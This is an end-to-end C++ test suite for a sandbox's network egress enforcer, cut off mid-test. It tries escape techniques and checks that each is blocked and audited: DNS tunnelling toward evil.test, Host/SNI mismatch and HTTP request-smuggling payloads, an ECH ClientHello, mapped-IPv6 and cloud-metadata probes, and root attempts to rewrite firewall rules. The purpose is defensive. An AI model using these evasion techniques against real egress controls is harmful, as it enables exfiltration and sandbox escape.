// The escape suite (issue: egress enforcement): real clients (curl, dig, python, nc, git,
// openssl) inside a real sandbox try to get out, and must fail; each attempt must also be in
// the sandbox's egress audit, and must not have reached the world's servers.
//
// Layout: the test world (tests/world) with kmd running in its namespace K, configured to use
// the world's resolver. One unprivileged and one privileged sandbox from profiles that allow
// `.allowed.test` only; everything else in the world is the attacker's.
#include <gtest/gtest.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <sstream>
#include <thread>

#include <nlohmann/json.hpp>

#include "../cli/run.h"
#include "../world/world.h"
#include "km/base/file.h"

namespace {

using km::testing::run;
using km::testing::RunResult;
using km::testing::TestWorld;
using Json = nlohmann::json;
using namespace std::chrono_literals;

constexpr const char* kProfile = R"(apiVersion: klankermaker.ai/v1alpha2
kind: SandboxProfile
metadata:
  name: escape
  prefix: esc
extends: quickstart
spec:
  execution:
    privileged: PRIVILEGED
  network:
    enforcement: MODE
    httpsOnly: PRIVILEGED
    egress:
      allowedDNSSuffixes: [".allowed.test"]
      allowedHosts: ["git.allowed.test:9418"]
      allowedCIDRs: ["203.0.113.11/32:80"]
)";

class Egress : public ::testing::Test {
 protected:
  // The suite runs once per enforcement mode (ctest sets KM_EGRESS_MODE): proxy, ebpf, both.
  static std::string mode() {
    const char* m = std::getenv("KM_EGRESS_MODE");
    return m && *m ? m : "proxy";
  }
  static bool kernel() { return mode() != "proxy"; }
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    auto w = TestWorld::create();
    if (!w) {
      setup_error_ = "test world: " + w.error().to_string();
      return;
    }
    world_ = w->release();
    char tmpl[] = "/tmp/km-egress-XXXXXX";
    root_ = ::mkdtemp(tmpl);
    ::chmod(root_.c_str(), 0711);
    socket_ = root_ + "/run/kmd.sock";
    cgroup_ = "km-egress-" + std::to_string(::getpid());
    std::ofstream(root_ + "/kmd.yaml") << "upstreamDNS: [\"" << world_->resolver() << "\"]\n";
    for (const char* priv : {"false", "true"}) {
      std::string p = kProfile;
      p.replace(p.find("PRIVILEGED"), 10, priv);
      p.replace(p.find("PRIVILEGED"), 10, priv);  // the privileged sandbox is also httpsOnly
      p.replace(p.find("MODE"), 4, mode());
      std::ofstream(root_ + "/escape-" + priv + ".yaml") << p;
    }
    auto pid = world_->spawn_in_kmd_netns({KMD_BIN, "--foreground", "--config", root_ + "/kmd.yaml", "--state-dir",
                                           root_ + "/state", "--runtime-dir", root_ + "/run", "--group", "",
                                           "--cgroup-name", cgroup_},
                                          {}, root_ + "/kmd.log");
    if (!pid) {
      setup_error_ = "kmd: " + pid.error().to_string();
      return;
    }
    kmd_pid_ = *pid;
    for (int i = 0; i < 500 && km({"list"}).status != 0; ++i) std::this_thread::sleep_for(10ms);
    for (const char* priv : {"false", "true"}) {
      auto r = km({"create", root_ + "/escape-" + priv + ".yaml"});
      if (r.status != 0) {
        setup_error_ = "km create: " + r.err + km::read_file(root_ + "/kmd.log", 1 << 20).value_or("");
        return;
      }
      std::string id = r.out.substr(0, r.out.find('\n'));
      (std::string(priv) == "true" ? priv_id_ : id_) = id;
      // The test CA, so clients can verify the world's certificates.
      auto ca = km::read_file(world_->ca_bundle(), 1 << 20);
      km({"exec", id, "--", "sh", "-c", "cat > /workspace/ca.pem"}, ca.value_or(""));
    }
  }

  static void TearDownTestSuite() {
    if (root_.empty()) return;
    if (kmd_pid_ > 0) {
      for (const auto& id : {id_, priv_id_}) {
        if (!id.empty()) km({"destroy", id});
      }
      ::kill(kmd_pid_, SIGTERM);
      (void)world_->wait_exit(kmd_pid_, 10s);
    }
    delete world_;
    world_ = nullptr;
    std::system(("umount -l '" + root_ + "/run/bpf' 2>/dev/null; rm -rf '" + root_ + "'").c_str());
    // Every hierarchy; a cgroup whose last tasks are still being reaped is busy for a moment.
    std::system(("for i in $(seq 50); do rmdir /sys/fs/cgroup/*/" + cgroup_ + " 2>/dev/null; "
                 "ls -d /sys/fs/cgroup/*/" + cgroup_ + " >/dev/null 2>&1 || break; sleep 0.1; done").c_str());
  }

  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "e2e test: kmd needs root";
    ASSERT_TRUE(setup_error_.empty()) << setup_error_;
    world_->clear_hits();
    audit_mark_ = audit().size();
  }

  static RunResult km(std::vector<std::string> args, const std::string& input = "") {
    args.insert(args.begin(), KM_BIN);
    return run(args, {{"KM_SOCKET", socket_}}, input);
  }
  // Runs a shell command in the sandbox as its user (or root in the privileged one).
  static RunResult sh(const std::string& cmd, bool privileged = false) {
    if (privileged) return km({"exec", "--root", priv_id_, "--", "sh", "-c", cmd});
    return km({"exec", id_, "--", "sh", "-c", cmd});
  }

  // The enforcer's events in the sandbox's audit trail (km logs, which reads what the enforcer
  // wrote before it was asked), in the flat form the enforcer writes them: kind (the event's
  // sub-kind: dns, connect, packet, http, ...) and the event's detail.
  static std::vector<Json> audit(const std::string& id = id_) {
    std::vector<Json> out;
    auto r = km({"-o", "json", "logs", id, "-n", "100000"});
    std::istringstream in(r.out);
    std::string line;
    while (std::getline(in, line)) {
      Json e = Json::parse(line, nullptr, false);
      if (!e.is_object() || e.value("source", "") != "enforcer") continue;
      Json flat = e["detail"];
      if (!flat.contains("kind")) flat["kind"] = e["type"];
      flat["ts"] = e["ts"];
      out.push_back(std::move(flat));
    }
    return out;
  }
  // Audit events since this test began that match all `fields`.
  std::vector<Json> audited(const Json& fields, const std::string& id = id_) const {
    auto all = audit(id);
    std::vector<Json> out;
    for (size_t i = id == id_ ? audit_mark_ : 0; i < all.size(); ++i) {
      bool match = all[i].is_object();
      for (auto& [k, v] : fields.items()) match = match && all[i].contains(k) && all[i][k] == v;
      if (match) out.push_back(all[i]);
    }
    return out;
  }
  size_t hits_at(const std::string& server) const {
    size_t n = 0;
    for (const auto& h : world_->hits()) n += h.server == server;
    return n;
  }
  static std::string dump(const RunResult& r) { return "status " + std::to_string(r.status) + "\nout: " + r.out + "\nerr: " + r.err; }

  static inline TestWorld* world_ = nullptr;
  static inline std::string setup_error_, root_, socket_, cgroup_, id_, priv_id_;
  static inline pid_t kmd_pid_ = -1;
  size_t audit_mark_ = 0;
};

// ---- what is allowed works, so the denials below mean something -----------------------------

TEST_F(Egress, AllowedNamesWorkExplicitlyAndTransparently) {
  auto r = sh("curl -sS -m 10 --cacert /workspace/ca.pem https://allowed.test/explicit");
  ASSERT_EQ(r.status, 0) << dump(r);
  auto body = Json::parse(r.out, nullptr, false);
  EXPECT_EQ(body["sni"], "allowed.test") << r.out;
  EXPECT_EQ(body["path"], "/explicit");
  auto t = sh("curl -sS -m 10 --noproxy '*' --cacert /workspace/ca.pem https://www.allowed.test/transparent");
  ASSERT_EQ(t.status, 0) << dump(t);
  EXPECT_EQ(Json::parse(t.out, nullptr, false)["sni"], "www.allowed.test");
  auto p = sh("curl -sS -m 10 --noproxy '*' http://api.allowed.test/plain");
  ASSERT_EQ(p.status, 0) << dump(p);
  EXPECT_EQ(Json::parse(p.out, nullptr, false)["server"], "198.51.100.11");
  EXPECT_FALSE(audited({{"kind", "connect"}, {"mode", "explicit"}, {"name", "allowed.test"}, {"verdict", "allow"}}).empty());
  EXPECT_FALSE(audited({{"kind", "connect"}, {"mode", "transparent"}, {"name", "www.allowed.test"}, {"verdict", "allow"}}).empty());
  EXPECT_FALSE(audited({{"kind", "dns"}, {"name", "allowed.test"}, {"verdict", "allow"}}).empty());
  auto dig = sh("dig +short +time=3 +tries=1 www.allowed.test");
  EXPECT_NE(dig.out.find("198.51.100.10"), std::string::npos) << dump(dig);
  // Case and a trailing dot do not matter for allowed names either.
  auto up = sh("curl -sS -m 10 --cacert /workspace/ca.pem https://ALLOWED.TEST./x");
  EXPECT_EQ(up.status, 0) << dump(up);
}

TEST_F(Egress, NonHttpTcpToAnAllowedNameIsTunnelled) {
  // Server speaks first (port 22 banner): judged by the address an allowed name resolved to.
  auto r = sh("getent hosts allowed.test >/dev/null; printf 'ping\\n' | timeout 5 nc -q 1 allowed.test 22");
  EXPECT_NE(r.out.find("SSH-2.0-world"), std::string::npos) << dump(r);
  EXPECT_FALSE(audited({{"kind", "connect"}, {"port", 22}, {"verdict", "allow"}}).empty());
}

// ---- the escape attempts -----------------------------------------------------------------

TEST_F(Egress, DirectConnectToAnAddressFails) {
  auto r = sh("curl -sS -m 5 --noproxy '*' http://203.0.113.10/direct");
  EXPECT_NE(r.status, 0) << dump(r);
  auto n = sh("echo hi | timeout 5 nc -w 3 203.0.113.10 7");
  EXPECT_EQ(n.out.find("hi"), std::string::npos) << dump(n);
  auto py = sh("python3 -c 'import socket; s=socket.create_connection((\"203.0.113.10\", 443), 5); s.sendall(b\"x\"); print(s.recv(10))'");
  EXPECT_NE(py.status, 0) << dump(py);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  EXPECT_GE(audited({{"kind", "connect"}, {"addr", "203.0.113.10"}, {"verdict", "deny"}}).size(), 3u);
  if (mode() == "ebpf") {
    // Refused by the cgroup programs at connect(), with the process that tried. (In `both`,
    // misses go to the proxy instead, which resets them.)
    auto k = audited({{"kind", "connect"}, {"mode", "kernel"}, {"addr", "203.0.113.10"}});
    ASSERT_FALSE(k.empty());
    EXPECT_TRUE(k.back().contains("pid"));
    EXPECT_NE(py.err.find("PermissionError"), std::string::npos) << dump(py);
  }
}

TEST_F(Egress, AllowedCidrsOpenExactlyTheirAddressesAndPorts) {
  auto ok = sh("curl -sS -m 5 --noproxy '*' http://203.0.113.11/cidr");
  EXPECT_EQ(Json::parse(ok.out, nullptr, false)["server"], "203.0.113.11") << dump(ok);
  auto viaproxy = sh("curl -sS -m 5 http://203.0.113.11/cidr-explicit");
  EXPECT_EQ(Json::parse(viaproxy.out, nullptr, false)["server"], "203.0.113.11") << dump(viaproxy);
  auto port = sh("curl -sS -m 5 --noproxy '*' -k https://203.0.113.11/cidr-443");
  EXPECT_NE(port.status, 0) << dump(port);
  auto other = sh("curl -sS -m 5 --noproxy '*' http://203.0.113.10/cidr-other");
  EXPECT_NE(other.status, 0) << dump(other);
  EXPECT_FALSE(audited({{"kind", "connect"}, {"addr", "203.0.113.11"}, {"port", 80}, {"verdict", "allow"}, {"rule", "allowedCIDRs: 203.0.113.11/32:80"}}).empty());
  EXPECT_FALSE(audited({{"kind", "connect"}, {"addr", "203.0.113.11"}, {"port", 443}, {"verdict", "deny"}}).empty());
  for (const auto& h : world_->hits()) EXPECT_NE(h.path, "/cidr-443");
}

TEST_F(Egress, IpLiteralUrlsAreDenied) {
  auto r = sh("curl -sS -m 5 -o /dev/null -w '%{http_code}' http://203.0.113.10/literal");
  EXPECT_EQ(r.out, "403") << dump(r);
  auto s = sh("curl -sS -m 5 -k https://203.0.113.10/literal");
  EXPECT_NE(s.status, 0) << dump(s);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  EXPECT_GE(audited({{"kind", "connect"}, {"mode", "explicit"}, {"addr", "203.0.113.10"}, {"verdict", "deny"}}).size(), 2u);
}

TEST_F(Egress, DnsToAnotherResolverIsRedirectedToTheFilter) {
  auto udp = sh("dig +short +time=3 +tries=1 @203.0.113.53 evil.test");
  auto tcp = sh("dig +short +tcp +time=3 +tries=1 @203.0.113.53 evil.test");
  EXPECT_EQ(udp.out.find("203.0.113"), std::string::npos) << dump(udp);
  EXPECT_EQ(tcp.out.find("203.0.113"), std::string::npos) << dump(tcp);
  EXPECT_EQ(hits_at("203.0.113.53"), 0u);
  EXPECT_GE(audited({{"kind", "dns"}, {"name", "evil.test"}, {"verdict", "deny"}}).size(), 2u);
  // Redirected queries for allowed names are answered by the filter, as if from that server.
  auto ok = sh("dig +short +time=3 +tries=1 @203.0.113.53 allowed.test");
  EXPECT_NE(ok.out.find("198.51.100.10"), std::string::npos) << dump(ok);
}

TEST_F(Egress, DnsOverTlsAndHttpsToOtherHostsFail) {
  auto dot = sh("timeout 8 openssl s_client -connect 203.0.113.53:853 -servername dns.evil.test </dev/null");
  EXPECT_EQ(dot.out.find("BEGIN CERTIFICATE"), std::string::npos) << dump(dot);
  auto doh = sh("curl -sS -m 5 --noproxy '*' -k 'https://203.0.113.53/dns-query?dns=AAABAAABAAAAAAAABGV2aWwEdGVzdAAAAQAB'");
  EXPECT_NE(doh.status, 0) << dump(doh);
  // curl resolving through DoH itself (no proxy, so it must resolve the name on its own).
  auto doh2 = sh("curl -sS -m 5 -k --noproxy '*' --doh-url https://203.0.113.53/dns-query https://allowed.test/");
  EXPECT_NE(doh2.status, 0) << dump(doh2);
  EXPECT_EQ(hits_at("203.0.113.53"), 0u);
  EXPECT_GE(audited({{"kind", "connect"}, {"addr", "203.0.113.53"}, {"verdict", "deny"}}).size(), 2u);
}

TEST_F(Egress, DnsTunnellingThroughTheFilterNeverReachesTheAttackersZone) {
  auto r = sh("for i in 1 2 3; do dig +short +time=2 +tries=1 secret$i.tunnel.evil.test TXT; "
              "dig +short +time=2 +tries=1 secret$i.tunnel.evil.test; done");
  EXPECT_EQ(r.out.find("203.0.113"), std::string::npos) << dump(r);
  for (const auto& h : world_->hits()) EXPECT_EQ(h.qname.find("tunnel.evil.test"), std::string::npos) << h.qname;
  EXPECT_GE(audited({{"kind", "dns"}, {"verdict", "deny"}, {"rcode", "NXDOMAIN"}}).size(), 6u);
}

TEST_F(Egress, ConnectToADeniedHostGets403WithTheReason) {
  auto r = sh("curl -sS -m 5 --cacert /workspace/ca.pem https://evil.test/ 2>&1; echo; "
              "curl -sS -m 5 -p -x http://$(awk '/nameserver/{print $2}' /etc/resolv.conf):3128 -o /dev/null -w '%{http_code}' http://evil.test:443/");
  EXPECT_NE(r.out.find("403"), std::string::npos) << dump(r);
  auto body = sh("curl -sS -m 5 http://evil.test/");
  auto j = Json::parse(body.out, nullptr, false);
  EXPECT_EQ(j["error"], "egress_denied") << body.out;
  EXPECT_NE(j["hint"].get<std::string>().find("allowed"), std::string::npos);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  EXPECT_GE(audited({{"kind", "connect"}, {"name", "evil.test"}, {"verdict", "deny"}}).size(), 2u);
}

TEST_F(Egress, HostOrSniMismatchInsideAnAllowedConnectFails) {
  // CONNECT allowed.test:443, then a TLS ClientHello for evil.test.
  auto sni = sh("curl -sS -m 5 -k --connect-to evil.test:443:allowed.test:443 https://evil.test/");
  EXPECT_NE(sni.status, 0) << dump(sni);
  // An absolute-form request for allowed.test with Host: evil.test.
  auto host = sh("curl -sS -m 5 -o /dev/null -w '%{http_code}' -H 'Host: evil.test' http://allowed.test/");
  EXPECT_EQ(host.out, "403") << dump(host);
  // Transparent: a plain HTTP connection allowed for allowed.test that then asks for evil.test.
  auto pipelined = sh("python3 - <<'EOF'\n"
                      "import socket\n"
                      "s = socket.create_connection(('allowed.test', 80), 5)\n"
                      "s.sendall(b'GET /one HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /two HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
                      "s.settimeout(5)\n"
                      "data = b''\n"
                      "try:\n"
                      "    while True:\n"
                      "        d = s.recv(65536)\n"
                      "        if not d: break\n"
                      "        data += d\n"
                      "except Exception: pass\n"
                      "print(data.count(b'HTTP/1.1 200'))\n"
                      "EOF");
  // The connection is cut at the request for the other host (here, before anything was sent).
  EXPECT_LE(std::stoi("0" + pipelined.out), 1) << dump(pipelined);
  for (const auto& h : world_->hits()) EXPECT_NE(h.host, "evil.test") << h.server << h.path;
  EXPECT_GE(audited({{"kind", "connect"}, {"verdict", "deny"}}).size(), 3u);
}

TEST_F(Egress, ALateClientHelloMustMatchToo) {
  // Silent first (so the connection is judged by address, as for a server-speaks-first
  // protocol), then a ClientHello for another name the same server would also serve.
  auto r = sh("python3 - <<'EOF'\n"
              "import socket, ssl, time\n"
              "addr = socket.gethostbyname('allowed.test')\n"
              "s = socket.create_connection((addr, 443), 5)\n"
              "time.sleep(0.8)\n"
              "ctx = ssl.create_default_context(cafile='/workspace/ca.pem')\n"
              "try:\n"
              "    t = ctx.wrap_socket(s, server_hostname='evil.test')\n"
              "    t.sendall(b'GET /late HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
              "    print(t.recv(200))\n"
              "except Exception as e:\n"
              "    print('refused', type(e).__name__)\n"
              "EOF");
  EXPECT_NE(r.out.find("refused"), std::string::npos) << dump(r);
  for (const auto& h : world_->hits()) EXPECT_NE(h.sni, "evil.test") << h.server;
  EXPECT_FALSE(audited({{"kind", "connect"}, {"name", "evil.test"}, {"verdict", "deny"}}).empty());
}

// Sends raw bytes to allowed.test:<port> transparently from inside the sandbox (after
// `delay` seconds of silence) and prints what came back, or "refused".
static std::string raw_exchange(const std::string& payload_py, int port = 80, double delay = 0) {
  return "python3 - <<'EOF'\n"
         "import socket, time\n"
         "s = socket.create_connection((socket.gethostbyname('allowed.test'), " + std::to_string(port) + "), 5)\n"
         "time.sleep(" + std::to_string(delay) + ")\n"
         "s.settimeout(3)\n"
         "try:\n"
         "    s.sendall(" + payload_py + ")\n"
         "    data = s.recv(4096)\n"
         "    print('answered' if data else 'refused')\n"
         "except Exception as e:\n"
         "    print('refused')\n"
         "EOF";
}

TEST_F(Egress, RequestsTheStrictParserRefusesAreNotRelayed) {
  // Each would be read as a request for evil.test by some lenient server behind allowed.test.
  for (std::string payload : {"b'\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
                              "b'GET / HTTP/1.1\\nHost: evil.test\\n\\n'",
                              "b'get / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
                              "b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n'",
                              "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'",
                              "b'GET http://evil.test/x HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'",
                              "b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 39\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'",
                              "b'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: gzip, chunked\\r\\n\\r\\n0\\r\\n\\r\\n'",
                              "b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: ' + b'a' * 40000 + b'\\r\\n\\r\\n'"}) {
    auto r = sh(raw_exchange(payload));
    EXPECT_EQ(r.out, "refused\n") << payload << dump(r);
  }
  // Late: silent past the server-first judgement, then a request without Host, then another.
  auto late = sh(raw_exchange("b'GET /a HTTP/1.0\\r\\nConnection: keep-alive\\r\\n\\r\\nGET /b HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'", 80, 0.8));
  EXPECT_EQ(late.out, "refused\n") << dump(late);
  for (const auto& h : world_->hits()) EXPECT_NE(h.host, "evil.test") << h.server << " " << h.path;
  for (const auto& h : world_->hits()) EXPECT_NE(h.path, "/x");
  EXPECT_GE(audited({{"kind", "connect"}, {"verdict", "deny"}}).size(), 10u);
}

TEST_F(Egress, EncryptedClientHelloIsRefused) {
  // A ClientHello whose outer SNI is allowed.test and which carries an ECH extension (0xfe0d).
  std::string hello =
      "(lambda sni, ext: (lambda body: b'\\x16\\x03\\x01' + len(body).to_bytes(2, 'big') + body)("
      "b'\\x01' + (lambda ch: len(ch).to_bytes(3, 'big') + ch)("
      "b'\\x03\\x03' + b'\\x11' * 32 + b'\\x00' + b'\\x00\\x02\\x13\\x01' + b'\\x01\\x00' + len(ext).to_bytes(2, 'big') + ext)))"
      "(b'allowed.test', (lambda n: b'\\x00\\x00' + (len(n) + 5).to_bytes(2, 'big') + (len(n) + 3).to_bytes(2, 'big') + b'\\x00' + "
      "len(n).to_bytes(2, 'big') + n)(b'allowed.test') + b'\\xfe\\x0d\\x00\\x04\\x00\\x01\\x02\\x03')";
  auto r = sh(raw_exchange(hello, 443));
  EXPECT_EQ(r.out, "refused\n") << dump(r);
  for (const auto& h : world_->hits()) EXPECT_NE(h.port, 443) << h.server;
  bool ech = false;
  for (const auto& e : audited({{"kind", "connect"}, {"verdict", "deny"}})) {
    ech = ech || e.value("reason", std::string()).find("ECH") != std::string::npos;
  }
  EXPECT_TRUE(ech);
}

TEST_F(Egress, UrgentDataDoesNotSpinTheEnforcer) {
  auto pidtext = km::read_file(root_ + "/run/sandboxes/" + id_ + "/enforcer.pid", 4096);
  ASSERT_TRUE(pidtext);
  std::string pid = pidtext->substr(0, pidtext->find(' '));
  auto ticks = [&pid] {
    auto stat = km::read_file("/proc/" + pid + "/stat", 8192).value_or("");
    std::istringstream in(stat.substr(stat.rfind(')') + 2));
    std::vector<std::string> f{std::istream_iterator<std::string>(in), {}};
    return f.size() > 12 ? std::stol(f[11]) + std::stol(f[12]) : -1L;  // utime + stime
  };
  // A relayed connection that receives TCP urgent data, held open while the enforcer's CPU
  // time is read.
  auto r = sh("python3 - <<'EOF'\n"
              "import socket, time, sys\n"
              "s = socket.create_connection((socket.gethostbyname('allowed.test'), 7), 5)\n"
              "s.sendall(b'SSH-2.0-x\\r\\n'); time.sleep(0.3)\n"
              "s.send(b'!', socket.MSG_OOB); s.sendall(b'after\\n')\n"
              "print('sent', flush=True); time.sleep(2); s.close()\n"
              "EOF",
              false);
  (void)r;
  long before = ticks();
  auto hold = sh("python3 - <<'EOF'\n"
                 "import socket, time\n"
                 "s = socket.create_connection((socket.gethostbyname('allowed.test'), 7), 5)\n"
                 "s.sendall(b'SSH-2.0-x\\r\\n'); time.sleep(0.3)\n"
                 "s.send(b'!', socket.MSG_OOB); s.sendall(b'after\\n'); time.sleep(1.5)\n"
                 "EOF");
  long after = ticks();
  ASSERT_GE(before, 0);
  // A spinning relay would burn about 150 ticks (1.5 s of one core at 100 Hz) meanwhile.
  EXPECT_LT(after - before, 40) << "enforcer CPU ticks while holding a connection with urgent data";
}

TEST_F(Egress, SniOfAnAllowedNameToADeniedAddressFails) {
  auto r = sh("curl -sS -m 5 --noproxy '*' -k --resolve allowed.test:443:203.0.113.10 https://allowed.test/");
  EXPECT_NE(r.status, 0) << dump(r);
  auto h = sh("curl -sS -m 5 --noproxy '*' --resolve allowed.test:80:203.0.113.10 http://allowed.test/");
  EXPECT_NE(h.status, 0) << dump(h);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  // (The kernel refuses the address before any name is sent, so its events carry none.)
  if (kernel()) {
    EXPECT_GE(audited({{"kind", "connect"}, {"addr", "203.0.113.10"}, {"verdict", "deny"}}).size(), 2u);
  } else {
    EXPECT_GE(audited({{"kind", "connect"}, {"name", "allowed.test"}, {"addr", "203.0.113.10"}, {"verdict", "deny"}}).size(), 2u);
  }
}

TEST_F(Egress, NamesThatOnlyLookAllowedAreDenied) {
  auto r = sh("dig +short +time=2 +tries=1 api.allowed.test.evil.test; dig +short +time=2 +tries=1 notallowed.test; "
              "dig +short +time=2 +tries=1 EVIL.TEST.; dig +short +time=2 +tries=1 allowed.test.evil.test.");
  EXPECT_EQ(r.out.find("203.0.113"), std::string::npos) << dump(r);
  auto c = sh("curl -sS -m 5 -o /dev/null -w '%{http_code}' http://api.allowed.test.evil.test/");
  EXPECT_EQ(c.out, "403") << dump(c);
  EXPECT_EQ(hits_at("203.0.113.11"), 0u);
  EXPECT_GE(audited({{"kind", "dns"}, {"name", "api.allowed.test.evil.test"}, {"verdict", "deny"}}).size(), 1u);
  EXPECT_GE(audited({{"kind", "dns"}, {"name", "evil.test"}, {"verdict", "deny"}}).size(), 1u);
}

TEST_F(Egress, CnameLeavingTheAllowlistIsCut) {
  auto r = sh("dig +short +time=3 +tries=1 cdn.allowed.test");
  EXPECT_EQ(r.out.find("203.0.113.10"), std::string::npos) << dump(r);
  auto c = sh("curl -sS -m 5 --noproxy '*' http://cdn.allowed.test/");
  EXPECT_NE(c.status, 0) << dump(c);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  EXPECT_FALSE(audited({{"kind", "dns"}, {"name", "cdn.allowed.test"}, {"cut", "edge.evil.test"}}).empty());
}

TEST_F(Egress, Ipv6AndMappedIpv6AreFilteredOrUnroutable) {
  auto v6 = sh("curl -sS -m 5 --noproxy '*' -g 'http://[2001:db8::10]/'");
  EXPECT_NE(v6.status, 0) << dump(v6);
  auto aaaa = sh("dig +short +time=2 +tries=1 v6.allowed.test AAAA");
  EXPECT_EQ(aaaa.out, "") << dump(aaaa);
  auto mapped = sh("python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(5); "
                   "s.connect((\"::ffff:203.0.113.10\", 80)); s.sendall(b\"GET / HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n\"); print(s.recv(100))'");
  EXPECT_NE(mapped.status, 0) << dump(mapped);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
  EXPECT_FALSE(audited({{"kind", "connect"}, {"addr", "203.0.113.10"}, {"verdict", "deny"}}).empty());
}

TEST_F(Egress, UdpOtherThanDnsGoesNowhere) {
  auto r = sh("python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
              "for port in (443, 7):\n"
              "    for host in (\"198.51.100.10\", \"203.0.113.10\"):\n"
              "        try:\n"
              "            s.sendto(b\"quic-ish\", (host, port))\n"
              "        except PermissionError:\n"
              "            pass\n"
              "try:\n"
              "    print(s.recvfrom(100))\n"
              "except Exception as e:\n"
              "    print(\"no answer\")'");
  EXPECT_EQ(r.out, "no answer\n") << dump(r);
  std::this_thread::sleep_for(300ms);  // datagrams in flight would have been recorded by now
  for (const auto& h : world_->hits()) EXPECT_NE(h.proto, "udp") << h.server;
  EXPECT_FALSE(audited({{"kind", "packet"}, {"proto", "udp"}, {"addr", "203.0.113.10"}, {"port", 443}, {"verdict", "deny"}}).empty());
  EXPECT_FALSE(audited({{"kind", "packet"}, {"proto", "udp"}, {"addr", "198.51.100.10"}, {"port", 7}, {"verdict", "deny"}}).empty());
}

TEST_F(Egress, MetadataPrivateAndHostAddressesAreDenied) {
  for (std::string url : {"http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://127.0.0.1:22/",
                          "http://198.51.100.1/", "http://172.16.0.1/"}) {
    auto r = sh("curl -sS -m 5 --noproxy '*' " + url);
    EXPECT_NE(r.status, 0) << url << dump(r);
    auto e = sh("curl -sS -m 5 --noproxy '' -x \"$HTTP_PROXY\" -o /dev/null -w '%{http_code}' " + url);
    EXPECT_EQ(e.out, "403") << url << dump(e);
  }
  EXPECT_GE(audited({{"kind", "connect"}, {"addr", "169.254.169.254"}, {"verdict", "deny"}}).size(), 2u);
  EXPECT_GE(audited({{"kind", "connect"}, {"addr", "198.51.100.1"}, {"verdict", "deny"}}).size(), 2u);
}

TEST_F(Egress, OtherSandboxesAndTheEnforcersOtherPortsAreUnreachable) {
  // The other sandbox's link address, and any port of this sandbox's own peer but DNS/proxy.
  auto other = km({"-o", "json", "status", priv_id_});
  ASSERT_EQ(other.status, 0);
  auto gw = sh("awk '/nameserver/{print $2}' /etc/resolv.conf");
  std::string peer = gw.out.substr(0, gw.out.find('\n'));
  auto r = sh("curl -sS -m 5 --noproxy '*' http://" + peer + ":22/; curl -sS -m 5 --noproxy '*' http://10.88.0.6:80/");
  EXPECT_EQ(r.out, "") << dump(r);
  EXPECT_FALSE(audited({{"kind", "connect"}, {"addr", peer}, {"port", 22}, {"verdict", "deny"}}).empty());
}

TEST_F(Egress, KmAuditShowsTheVerdicts) {
  sh("curl -sS -m 5 -o /dev/null http://evil.test/audit-me; dig +short +time=2 +tries=1 audit.evil.test");
  auto j = km({"-o", "json", "audit", id_, "--kind", "connect", "-n", "5"});
  ASSERT_EQ(j.status, 0) << j.err;
  auto events = Json::parse(j.out, nullptr, false);
  ASSERT_TRUE(events.is_array()) << j.out;
  ASSERT_FALSE(events.empty());
  EXPECT_LE(events.size(), 5u);
  EXPECT_EQ(events.back()["name"], "evil.test");
  EXPECT_EQ(events.back()["verdict"], "deny");
  for (const auto& e : events) EXPECT_EQ(e["kind"], "connect");
  auto text = km({"audit", id_, "-n", "3"});
  EXPECT_EQ(text.status, 0);
  EXPECT_NE(text.out.find("audit.evil.test"), std::string::npos) << text.out;
  EXPECT_NE(text.out.find("name is not in the allowlist"), std::string::npos) << text.out;
}

TEST_F(Egress, KmdSocketIsNotVisible) {
  auto r = sh("test -e " + socket_ + " && echo VISIBLE; test -e /run/km/kmd.sock && echo VISIBLE; ls -A /run");
  EXPECT_EQ(r.out, "") << dump(r);
}

TEST_F(Egress, RootInsideCannotChangeTheNetwork) {
  auto who = sh("id -u", true);
  ASSERT_EQ(who.out, "0\n") << dump(who);
  auto r = sh("nft flush ruleset 2>&1; echo nft=$?; ip route del default 2>&1; echo del=$?; "
              "ip route add 203.0.113.0/24 dev eth0 2>&1; echo add=$?; ip link set eth0 down 2>&1; echo down=$?; "
              "ip addr add 203.0.113.99/24 dev eth0 2>&1; echo addr=$?",
              true);
  for (const char* op : {"nft=0", "del=0", "add=0", "down=0", "addr=0"}) EXPECT_EQ(r.out.find(op), std::string::npos) << op << dump(r);
  auto after = sh("curl -sS -m 5 --noproxy '*' http://203.0.113.10/; echo rc=$?", true);
  EXPECT_EQ(after.out.find("\"server\""), std::string::npos) << dump(after);
  auto ok = sh("curl -sS -m 5 --cacert /workspace/ca.pem https://allowed.test/ok", true);
  EXPECT_NE(ok.out.find("\"server\""), std::string::npos) << dump(ok);
  EXPECT_EQ(hits_at("203.0.113.10"), 0u);
}

TEST_F(Egress, RootInsideCannotTouchTheKernelPolicyOrTheEnforcer) {
  auto r = sh("echo $$ > /sys/fs/cgroup/cgroup.procs 2>/dev/null; echo procs=$?; "
